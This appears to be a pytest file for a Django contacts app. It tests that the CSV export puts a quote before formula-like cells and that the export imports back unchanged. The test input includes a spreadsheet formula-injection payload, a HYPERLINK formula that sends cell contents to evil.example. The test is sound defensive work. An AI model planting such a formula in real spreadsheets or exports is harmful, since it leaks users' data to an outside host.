"""A contacts export opens in a spreadsheet as text: a name or a note that looks like a
formula gets a leading quote (core.csv_cells), phone numbers stay as they are, and the
file still imports back as it was."""

import csv
import io

import pytest
from django.core.management import call_command

from contacts import services
from contacts.models import Contact

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click")'


def export_rows() -> list[list[str]]:
    out = io.StringIO()
    call_command("export_contacts", stdout=out)
    return list(csv.reader(io.StringIO(out.getvalue())))


def test_a_formula_in_a_name_or_a_note_is_written_as_text(ada):
    services.contact_create(
        name=LINK, phones=["+14155550190"], emails=["-leading-dash@example.com"], notes="@SUM(1)"
    )

    rows = {row[1]: row for row in export_rows()[1:]}

    assert rows["+14155550190"] == [
        "'" + LINK,
        "+14155550190",
        "'-leading-dash@example.com",
        "'@SUM(1)",
    ]
    # Numbers in E.164, one or several, are written as they are: nothing a spreadsheet runs.
    assert rows["+14155552671; +14155550101"][:2] == ["Ada Lovelace", "+14155552671; +14155550101"]


def test_an_export_with_formulas_imports_back_as_it_was(tmp_path):
    services.contact_create(name=LINK, phones=["+14155550190"], notes="-1 call back\n=2")
    services.contact_create(name="'=already quoted", emails=["q@example.com"], notes="+")
    path = tmp_path / "contacts.csv"
    call_command("export_contacts", str(path), stdout=io.StringIO())

    def snapshot():
        return sorted(
            (contact.name, contact.notes, tuple(contact.points.values_list("value", flat=True)))
            for contact in Contact.objects.all()
        )

    before = snapshot()
    Contact.objects.all().delete()
    call_command("import_contacts", str(path), "--no-progress", stdout=io.StringIO())

    assert snapshot() == before
